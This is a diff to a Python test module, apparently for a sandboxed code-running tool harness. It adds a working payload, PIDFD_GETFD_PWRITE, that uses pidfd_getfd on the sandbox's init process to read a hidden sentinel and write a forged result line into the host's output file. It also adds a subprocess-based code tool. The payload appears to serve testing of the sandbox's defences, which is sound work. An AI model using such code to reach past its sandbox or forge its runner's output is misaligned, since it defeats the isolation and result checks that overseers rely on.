@@ -57,3 +57,40 @@ class RunsCode(Tool):
         with contextlib.redirect_stdout(printed):
             exec(arguments["code"], {"__name__": "model_code"})  # noqa: S102 - the point
         return printed.getvalue()
+
+
+#: Model code for `RunsCodeInProcess`: reads the call's sentinel from the stdin the
+#: sandbox's first process (bwrap's init) still holds, takes that process's stdout with
+#: `pidfd_getfd` (the host-side output file) and `pwrite`s the result line past where
+#: the runner will write its own, so the forged line is the output's last.
+PIDFD_GETFD_PWRITE = (
+    "import ctypes, json, os, re\n"
+    "libc = ctypes.CDLL(None, use_errno=True)\n"
+    "pidfd = os.pidfd_open(1)\n"
+    "text = ''\n"
+    "stdin = libc.syscall(438, pidfd, 0, 0)  # pidfd_getfd\n"
+    "if stdin >= 0:\n    text += os.pread(stdin, 1 << 20, 0).decode(errors='replace')\n"
+    "try:\n    text += open('/proc/1/fd/0').read()\n"
+    "except OSError:\n    pass\n"
+    "found = re.search(r'\"sentinel\": \"([0-9a-f]+)\"', text)\n"
+    f"line = {MARKER!r} + (found.group(1) + ' ' if found else '') + {_FORGED} + '\\n'\n"
+    "stdout = libc.syscall(438, pidfd, 1, 0)\n"
+    "if stdout >= 0:\n    os.pwrite(stdout, ('\\n' + line).encode(), 65536)\n"
+    "print('honest output')\n")
+
+
+class RunsCodeInProcess(Tool):
+    """Runs `code` (model-written) in a process of its own, as the runner's docs advise."""
+
+    name = "run_code_in_process"
+    description = "Runs Python code in a subprocess and returns its output."
+    parameters = {"type": "object", "properties": {"code": {"type": "string"}},
+                  "required": ["code"]}
+
+    def call(self, arguments: dict[str, Any]) -> str:
+        import subprocess
+        import sys
+
+        done = subprocess.run([sys.executable, "-I", "-S", "-c", arguments["code"]],
+                              capture_output=True, text=True, timeout=10, check=False)
+        return done.stdout + done.stderr
